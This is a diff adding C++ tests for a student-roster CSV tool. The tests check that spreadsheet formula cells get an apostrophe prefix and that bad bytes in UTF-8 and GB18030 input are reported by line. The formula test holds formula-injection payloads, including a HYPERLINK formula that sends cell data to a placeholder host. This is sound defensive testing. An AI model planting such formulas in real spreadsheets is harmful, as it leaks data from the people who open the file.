@@ -2,6 +2,7 @@
 // input row present with its line, GB18030 read the same as UTF-8.
 #include <catch2/catch.hpp>
 
+#include <algorithm>
 #include <cstdio>
 #include <filesystem>
 #include <fstream>
@@ -91,6 +92,37 @@ TEST_CASE("roster: the mixed roster keeps every row in order, with its line and 
   CHECK(r.err.find("第 8 行：“去向”的值“火星”无法识别") != std::string::npos);
 }
 
+TEST_CASE("roster: cells a spreadsheet would run (= + - @ TAB CR) come back with a leading ' and nothing else changed") {
+  auto r = xueshe_run({"roster", source_path("tests/roster/formulas.csv"), "--today", "2022-07-01"});
+  INFO(r.err);
+  REQUIRE(r.exit_code == 0);
+  for (const auto& row : xueshe::testing::csv_rows(r.out))
+    for (const std::string& cell : row) {
+      INFO("cell <" << cell << ">");
+      CHECK((cell.empty() || std::string("=+-@\t\r\n").find(cell.front()) == std::string::npos));
+    }
+  Table t = parse_csv(r.out);
+  REQUIRE(t.rows.size() == 5);
+  CHECK(t.header.at(14) == "'=SUM(1+1)");
+  CHECK(t.at(0, "姓名") == "'=1+2");
+  CHECK(t.at(0, "备注") == "'@SUM(A1:A2)");
+  CHECK(t.at(1, "学号") == "'+8613800000000");
+  CHECK(t.at(1, "姓名") == "'-2+3");
+  CHECK(t.at(1, "学院") == "'\t信息工程学院");
+  CHECK(t.at(1, "备注") == "''已有引号");
+  CHECK(t.at(2, "姓名") == "'=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"点击\")");
+  CHECK(t.at(2, "备注") == "'\r回车开头");
+  CHECK(t.at(4, "学号") == "'-2022305");
+  CHECK(t.at(4, "去向") == "'=火星");
+  for (std::size_t i = 0; i < 4; ++i) CHECK(t.at(i, "路线") == "employer_org");
+  // The bytes as written: the prefix inside the quotes, a row with nothing to mark unchanged.
+  CHECK(r.out.find("\r\n2022301,'=1+2,信息工程学院,") != std::string::npos);
+  CHECK(r.out.find("\r\n2022303,\"'=HYPERLINK(\"\"http://x.invalid/?d=\"\"&A1,\"\"点击\"\")\",") != std::string::npos);
+  CHECK(r.out.find(",\"'\r回车开头\",\"'-1,5\",") != std::string::npos);
+  CHECK(r.out.find("\r\n2022304,李四,信息工程学院,已就业,2022-06-30,2000-03-15,否,否,否,否,是,其他,未完成,普通备注,a=b,") !=
+        std::string::npos);
+}
+
 TEST_CASE("roster: --summary writes the summary as JSON instead") {
   const std::string summary = temp_path("summary.json");
   auto r = xueshe_run({"roster", source_path("tests/roster/mixed.csv"), "--today", "2022-07-01", "--summary", summary});
@@ -175,6 +207,34 @@ TEST_CASE("roster: files that cannot be checked are refused with a clear error (
   auto bad_policy = xueshe_run({"roster", file, "--policy", source_path("tests/roster/mixed.csv")});
   CHECK(bad_policy.exit_code == 2);
   CHECK(parse_out(bad_policy)["error"]["code"] == "policy_malformed_json");
+  std::remove(file.c_str());
+}
+
+TEST_CASE("roster: a bad byte deep in a file is reported on its own line, in auto mode too") {
+  // UTF-8, Chinese on every line, one bad byte on line 800.
+  std::string utf8 = "学号,姓名,去向\r\n";
+  for (int line = 2; line < 800; ++line) utf8 += std::to_string(line) + ",张三,已就业\r\n";
+  utf8 += "800,王\xFF,已就业\r\n801,李四,已就业\r\n";
+  const std::string file = temp_path("bad-utf8-line-800.csv");
+  write_file(file, utf8);
+  auto automatic = xueshe_run({"roster", file});
+  CHECK(automatic.exit_code == 2);
+  CHECK(parse_out(automatic)["error"]["code"] == "roster_undecodable");
+  CHECK(automatic.err.find("第 800 行附近") != std::string::npos);
+  auto strict = xueshe_run({"roster", file, "--encoding", "utf-8"});
+  CHECK(parse_out(strict)["error"]["code"] == "roster_invalid_utf8");
+  CHECK(strict.err.find("第 800 行附近") != std::string::npos);
+
+  // GB18030 (as Excel saves it), a byte no GB18030 character starts with on its line 8.
+  std::string gb = read_file(source_path("tests/roster/gb18030.csv"));
+  REQUIRE(std::count(gb.begin(), gb.end(), '\n') == 7);
+  gb += "2022199,\xFF,\xD2\xD1\xBE\xCD\xD2\xB5\r\n";  // 已就业 in GB18030 after the bad byte
+  write_file(file, gb);
+  auto gb_auto = xueshe_run({"roster", file});
+  CHECK(parse_out(gb_auto)["error"]["code"] == "roster_undecodable");
+  CHECK(gb_auto.err.find("第 8 行附近") != std::string::npos);
+  auto gb_forced = xueshe_run({"roster", file, "--encoding", "gb18030"});
+  CHECK(gb_forced.err.find("第 8 行附近") != std::string::npos);
   std::remove(file.c_str());
 }
 
